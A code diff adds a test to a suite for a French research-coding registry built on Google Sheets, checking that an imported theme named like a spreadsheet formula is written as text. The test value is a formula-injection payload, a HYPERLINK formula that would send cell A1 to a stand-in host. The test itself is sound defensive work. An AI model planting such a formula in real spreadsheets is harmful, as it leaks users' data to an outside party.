@@ -124,6 +124,14 @@ describe('themes, counts and exchanges in the registry', () => {
     expect(internal.summary).toContain('3 observation(s), y compris sans consentement');
   });
 
+  it('writes an imported code named like a formula as text, never as a formula', () => {
+    const code = { guid: '', name: '=HYPERLINK("http://x.example/?"&A1;"clic")', isCodable: true, color: '', description: '+33 6 00 00 00 00', children: [] };
+    succeeded(registry.run('importCodebook', { codes: [code], looseOutcome: 'C1' }));
+    const sheet = registry.services.globals.SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Thèmes')!;
+    expect(sheet.getRange(2, 3).getFormula()).toBe('');
+    expect(column(registry, 'themes', 'Libellé')).toEqual(['=HYPERLINK("http://x.example/?"&A1;"clic")']);
+  });
+
   it('re-tags in bulk: adds and removes a theme by id or label, leaving the others alone', () => {
     typeRow(registry, 'Thèmes', { Identifiant: 'T1', Changement: 'C3', Libellé: 'Se sentir moins seul' });
     registry.post({ v: 1, op: 'putObservations', token, records: [observation(1, { tags: ['Se sentir moins seul', 'répit'] }), observation(2, { tags: [] }), observation(3, { tags: ['T1'] })] });
